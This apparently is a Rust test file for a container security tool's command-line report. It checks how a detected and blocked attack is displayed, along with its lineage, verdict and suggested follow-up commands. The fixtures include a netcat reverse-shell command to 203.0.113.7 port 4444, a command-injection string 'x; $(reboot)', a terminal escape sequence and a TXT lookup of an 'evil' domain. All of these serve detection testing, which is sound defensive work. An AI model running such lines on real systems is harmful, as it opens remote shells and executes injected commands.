use portcullis_proto::v1::{
    Caller, Endpoint, Identification, Measure, NetworkActivity, NetworkOperation, Novelty, Occurrence, Operation,
    SuppressedCount, Verdict,
    network_operation::{Kind, Transport},
};

use crate::support::*;

fn report(signal: portcullis_proto::v1::Signal) -> String {
    let node = Node::new();
    let id = signal.id.to_string();
    let _agent = Agent::start(&node, Data { signals: vec![signal], ..Data::default() });
    let output = node.run(&["signals", "get", &id]);
    assert!(output.status.success(), "{}", stderr(&output));
    stdout(&output)
}

#[test]
fn follows_the_order_of_triage() {
    let expected = "\
Signal 7  high  blocked
nc was executed and blocked

What
  rule          net_util_in_container
  tool          nc
  category      netcat
  ATT&CK        T1095
  time          2023-11-14T22:13:20.123456789Z

Novelty
  this          seen daily since 2023-11-09; habitual
  seen          40 times before, on 5 days of the last 32
  first         2023-11-09T22:13:20.123456789Z
  last          2023-11-13T22:13:20.123456789Z
  known since   2023-11-05T22:13:20.123456789Z

Where
  container     0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
  containerd ns k8s.io
  image         docker.io/library/web:1
  pod           shop/web-0
  in the pod    web
  created       2023-11-14T22:12:20.123456789Z

Who
  uid, gid      33, 33
  pid           1042 (42 in the container)
  came from     the container's own first process
  terminal      none
  directory     /tmp
  started       2023-11-14T22:13:19.123456789Z

Command
  argv          nc -e '/bin/sh -i' 203.0.113.7 4444
                (read where the process could have changed it)
  path given    /tmp/nc
  file          /usr/bin/nc.openbsd
  where         temporary_directory, upper_layer

Lineage
  apache2 -DFOREGROUND  [pid 1001, uid 33]
  (/usr/sbin/apache2)
  └─ /usr/bin/php  [pid 1020, uid 33]
     └─ sh -c 'nc -e '\\''/bin/sh -i'\\'' 203.0.113.7 4444'  [pid 1042, uid 33]
        (/bin/dash)
        └─ nc -e '/bin/sh -i' 203.0.113.7 4444  [pid 1042, uid 33, same process]

Recognised by
  how           resolved_name, invoked_name
  connected to  203.0.113.7 port 4444
  invoked name  nc

Verdict
  blocked: the exec failed with EPERM; the program never ran
  policy        default (rule 2)
  mode          enforce (by annotation)
  backend       lsm

Next
  is this usual for the workload?
    portcullis signals list --tool nc --image docker.io/library/web:1
  what did this process and its ancestors do before? (signals 3, 5)
    portcullis signals get 5
  what else happened around then?
    portcullis signals list --since 2023-11-14T21:58:20Z --until 2023-11-14T22:28:20Z --oldest-first
  contain it, if it is not
    portcullis contain 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef --namespace k8s.io --freeze
";
    assert_eq!(report(signal(7)), expected);
}

#[test]
fn a_first_time_is_said() {
    let mut signal = signal(7);
    let summary = "first time; the workload is known since 3 minutes only";
    signal.novelty = Some(Novelty {
        first_time: true,
        workload_known_since: Some(time(-180)),
        summary: summary.into(),
        ..Novelty::default()
    });
    let expected =
        format!("Novelty\n  this          {summary}\n  known since   2023-11-14T22:10:20.123456789Z\n\nWhere\n");
    let told = report(signal);
    assert!(told.contains(&expected), "{told}");
}

#[test]
fn truncation_and_doubt_are_said() {
    let mut signal = signal(7);
    signal.lineage_truncated = true;
    let process = signal.process.as_mut().unwrap();
    process.argv_truncated = true;
    process.argc = 900;
    process.exe_truncated = true;
    let report = report(signal);
    for said in ["4444 …", "5 of 900 arguments", "…/usr/bin/nc.openbsd", "(older ancestors were not recorded)"] {
        assert!(report.contains(said), "{said:?} is missing in {report}");
    }
}

#[test]
fn a_socket_is_no_execution() {
    let mut signal = signal(7);
    signal.identified_by = vec![Identification::Socket.into()];
    let process = signal.process.as_mut().unwrap();
    (process.filename, process.invoked_name) = (String::new(), String::new());
    let report = report(signal);
    assert!(report.contains("blocked: the system call failed with EPERM\n"), "{report}");
    assert!(!report.contains("path given") && !report.contains("invoked name"), "{report}");
}

#[test]
fn a_signal_about_a_container_needs_no_process() {
    let mut signal = signal(7);
    (signal.process, signal.tool, signal.lineage) = (None, None, Vec::new());
    signal.identified_by.clear();
    signal.rule = "container_unguarded".into();
    let container = signal.container.as_mut().unwrap();
    container.guarded = false;
    container.unguarded_reason = "no cgroup v2".into();
    let report = report(signal);
    assert!(report.contains("container_unguarded") && report.contains("no cgroup v2"), "{report}");
    assert!(!report.contains("Lineage") && !report.contains("Command"), "{report}");
}

#[test]
fn says_when_names_are_all_that_is_known() {
    let mut signal = signal(7);
    assert!(!report(signal.clone()).contains("names only"));
    signal.container.as_mut().unwrap().contents_unknown = "too many entries".into();
    let report = report(signal);
    assert!(report.contains("  names only    too many entries\n"), "{report}");
}

/// The commands are for pasting into a root shell.
#[test]
fn suggested_commands_quote_what_is_hostile() {
    let mut signal = hostile(7);
    signal.container.as_mut().unwrap().image = "x; $(reboot)".into();
    let report = report(signal);
    assert!(report.contains("--image 'x; $(reboot)'\n"), "{report}");
}

#[test]
fn repeats_and_what_was_suppressed_are_told() {
    let mut signal = signal(7);
    (signal.count, signal.last_time) = (2000, Some(time(60)));
    let occurrence = |seconds, pid, argv: &[&str]| Occurrence {
        pid,
        time: Some(time(seconds)),
        argv: argv.iter().map(|&word| word.into()).collect(),
        argv_truncated: !argv.is_empty(),
    };
    signal.occurrences = vec![occurrence(59, 1100, &[]), occurrence(60, 1101, &["nc", "a b"])];
    let told = report(signal.clone());
    let expected = "  count         2000\n  last          2023-11-14T22:14:20.123456789Z\n  \
                    the newest    2023-11-14T22:14:19.123456789Z  pid 1100\n                \
                    2023-11-14T22:14:20.123456789Z  pid 1101  nc 'a b' …\n";
    assert!(told.contains(expected), "{told}");
    signal.occurrences.clear();
    let count = |tool: &str, count| SuppressedCount { tool: tool.into(), verdict: Verdict::Blocked.into(), count };
    signal.suppressed = vec![count("nc", 1990), count("", 10)];
    let told = report(signal.clone());
    assert!(told.contains("  of these      1990 nc blocked\n                10 other tools blocked\n"), "{told}");
    signal.rule = "events_lost".into();
    signal.suppressed = vec![count("", 1990), SuppressedCount { count: 10, ..SuppressedCount::default() }];
    let told = report(signal);
    assert!(told.contains("  of these      1990 blocked\n                10 not stopped\n"), "{told}");
}

#[test]
fn an_operation_says_who_and_what_came_of_it() {
    let mut signal = signal(7);
    (signal.process, signal.tool, signal.lineage) = (None, None, Vec::new());
    signal.rule = "containment".into();
    signal.operation = Some(Operation {
        measures: vec![Measure::KillProcess.into()],
        pid: 77,
        caller: Some(Caller { uid: 1000, gid: 100, pid: 4711, ..Caller::default() }),
        error: HOSTILE.into(),
    });
    let report = report(signal);
    let said = "Operation\n  measures      kill-process\n  process       77\n  asked for by  uid 1000, gid 100, pid 4711\n  outcome       x\\x1b[2J";
    assert!(report.contains(said) && !report.contains("Verdict") && !report.contains("contain it"), "{report}");
    assert_harmless(&report);
}

#[test]
fn who_asked_over_tcp_is_a_certificate() {
    let mut signal = signal(7);
    let (certificate, serial) = ("CN:ada".to_owned(), "0a:1b".to_owned());
    let caller = Some(Caller { uid: u32::MAX, gid: u32::MAX, pid: 0, certificate, serial });
    signal.operation = Some(Operation { caller, ..Operation::default() });
    let report = report(signal);
    assert!(report.contains("  asked for by  certificate CN:ada, serial 0a:1b\n"), "{report}");
}

#[test]
fn what_came_of_it_on_the_network_is_told() {
    let mut seen = signal(7);
    let query = NetworkOperation {
        kind: Kind::DnsQuery.into(),
        dns_name: "x.evil.example".into(),
        dns_type: "TXT".into(),
        pid: 1042,
        first_time: Some(time(0)),
        count: 1,
        ..NetworkOperation::default()
    };
    let connect = NetworkOperation {
        kind: Kind::Connect.into(),
        transport: Transport::Udp.into(),
        endpoint: Some(Endpoint { address: "203.0.113.7".into(), port: 53 }),
        dns_name: String::new(),
        dns_type: String::new(),
        count: 3,
        ..query.clone()
    };
    seen.network = Some(NetworkActivity { operations: vec![query, connect], omitted: 5 });
    let told = report(seen);
    let expected = "\
Network
  2023-11-14T22:13:20.123456789Z  dns query x.evil.example type TXT  [pid 1042]
  2023-11-14T22:13:20.123456789Z  connect udp 203.0.113.7 port 53, 3 times  [pid 1042]
  (and 5 that were only counted)
";
    assert!(told.contains(expected), "{told}");
}
